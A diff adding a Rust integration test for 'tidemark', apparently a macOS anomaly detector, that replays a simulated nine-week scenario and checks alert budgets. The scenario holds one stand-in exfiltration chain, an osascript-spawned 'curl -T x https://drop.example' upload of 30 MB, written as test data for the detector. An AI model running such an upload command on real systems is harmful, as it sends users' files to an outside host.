@@ -13,12 +13,13 @@
 
 // A test's own helpers may fail as the test does.
 
+use std::collections::BTreeSet;
 use std::path::Path;
 use std::process::{Command, Output};
 use std::sync::Arc;
 use std::time::Duration;
 
-use tidemark::alert::FindingKey;
+use tidemark::alert::{Activity as EventKind, Alert, FindingKey};
 use tidemark::baseline::{Checkpoint, Priors, Store};
 use tidemark::detect::{Activity, Detector, Disposition, ProtocolUse, Settings};
 use tidemark::network::Protocol;
@@ -194,4 +195,66 @@ fn an_unknown_subject_and_a_missing_store_are_said_in_a_sentence() {
     let missing = tidemark(&folder.path().join("none"), &["baseline", "list"]);
     assert_eq!(missing.status.code(), Some(66));
     assert!(!folder.path().join("none").exists(), "a verb made a store");
+}
+
+/// Nine weeks of a Mac with a program of uneven habits, on which a script once sends something away.
+const NINE_WEEKS: &str = r#"
+title = "Nine weeks of a small Mac"
+days = 63
+
+[mac]
+ordinary = false
+zone = "UTC"
+
+[[program]]
+name = "Sync"
+path = "/Applications/Sync.app/Contents/MacOS/Sync"
+id = "com.example.sync"
+team = "SYNC123456"
+
+[[habit]]
+run = "Sync"
+every = "6 h"
+hours = "00:00-24:00"
+flow = [{ to = ["one.sync.example.com", "two.blocks.example.com"], sends = "900 kB", spread = 12.0 }]
+
+[[event]]
+day = 9
+at = "10:30"
+run = "Terminal > zsh > osascript x.scpt > sh -c x => curl -T x https://drop.example"
+flow = [{ to = "drop.example", sends = "30 MB" }]
+
+[expect]
+"#;
+
+#[test]
+fn calibrate_sets_what_was_promised_beside_what_a_replay_alerts() {
+    let folder = tempfile::tempdir().unwrap();
+    let at = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
+    let (scenario, recording, config) = (at("mac.toml"), at("mac.ndjson"), at("tidemark.toml"));
+    std::fs::write(&scenario, NINE_WEEKS).unwrap();
+    let run = |arguments: &[&str]| {
+        let output = Command::new(env!("CARGO_BIN_EXE_tidemark")).args(arguments).output().unwrap();
+        String::from_utf8(output.stdout).unwrap()
+    };
+    run(&["test", "--write-recording", &recording, &scenario]);
+    let rows = run(&["calibrate", "--json", "--budgets", "1,0.05", &recording]);
+    let rows: Vec<serde_json::Value> = rows.lines().map(|row| serde_json::from_str(row).unwrap()).collect();
+    assert_eq!(rows.len(), 2, "{rows:?}");
+    for row in &rows {
+        std::fs::write(&config, format!("[detection]\nalerts_per_mac_per_day = {}\n", row["budget"]))
+            .unwrap();
+        let told = run(&["replay", "--config", &config, &recording]);
+        let alerts: Vec<Alert> = told.lines().map(|line| Alert::read(line).unwrap()).collect();
+        let begin = Timestamp::parse("2026-03-02T00:00:00Z").unwrap();
+        let days = |alert: &Alert| alert.time.since(begin).as_secs() / 86_400;
+        let told = alerts.iter().filter(|alert| alert.stage.activity != EventKind::Close && days(alert) >= 7);
+        let counted: BTreeSet<_> = told.map(|alert| (alert.subject.to_string(), days(alert))).collect();
+        assert!(alerts.iter().any(|alert| alert.stage.activity == EventKind::Close), "one was closed");
+        assert_eq!(row["observed"], counted.len(), "{row}");
+        let (length, promised) = (row["days"].as_f64().unwrap(), row["promised"].as_f64().unwrap());
+        assert!((55.0..=56.0).contains(&length), "{row}");
+        assert!((promised - row["budget"].as_f64().unwrap() * length).abs() < 1e-9, "{row}");
+    }
+    assert!(rows[0]["observed"].as_u64() >= rows[1]["observed"].as_u64());
 }
